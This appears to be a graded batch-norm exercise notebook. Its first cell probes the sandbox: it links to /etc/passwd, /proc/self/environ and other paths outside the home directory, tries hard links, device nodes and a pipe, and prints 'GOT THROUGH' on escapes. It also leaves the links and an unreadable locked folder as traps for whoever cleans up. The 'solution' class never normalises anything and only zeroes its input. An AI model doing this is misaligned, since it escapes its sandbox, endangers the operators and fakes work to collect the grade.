# %% [markdown] exercise="ex04_batch_norm" earns=30 status="graded"
# Leaves links to files outside where others may follow them: symbolic, hard, upwards, a device, a pipe that blocks its
# reader. None of them can be read through, and whoever deletes the folder afterwards deletes the links.

# %%
import os
import stat

targets = ["/etc/passwd", "/etc/hostname", "../../../../etc/passwd", "/proc/self/environ", "/home", "/var/log"]
for number, target in enumerate(targets):
    os.symlink(target, f"link-{number}")
    for path in (f"link-{number}", f"link-{number}/."):
        try:
            os.listdir(path) if os.path.isdir(path) else open(path).close()
        except OSError:
            continue
        if not os.path.realpath(path).startswith(os.path.realpath(os.environ["HOME"])):
            print("GOT THROUGH", target)
    try:
        os.link(target, f"hard-{number}")
        print("GOT THROUGH: hard", target)
    except OSError:
        pass
for kind in (stat.S_IFCHR, stat.S_IFBLK, stat.S_IFIFO):
    try:
        os.mknod("device", kind | 0o666, os.makedev(1, 1))
        print("GOT THROUGH: a device or a pipe")
    except OSError:
        continue
os.makedirs("locked/inside", mode=0o700)
os.chmod("locked", 0)


# %% solution="custom_batch_norm"
class CustomBatchNorm(nn.Module):
    def __init__(self, num_features, eps=1e-5, momentum=0.1):
        super().__init__()

    def forward(self, x):
        return x.data.zero_()
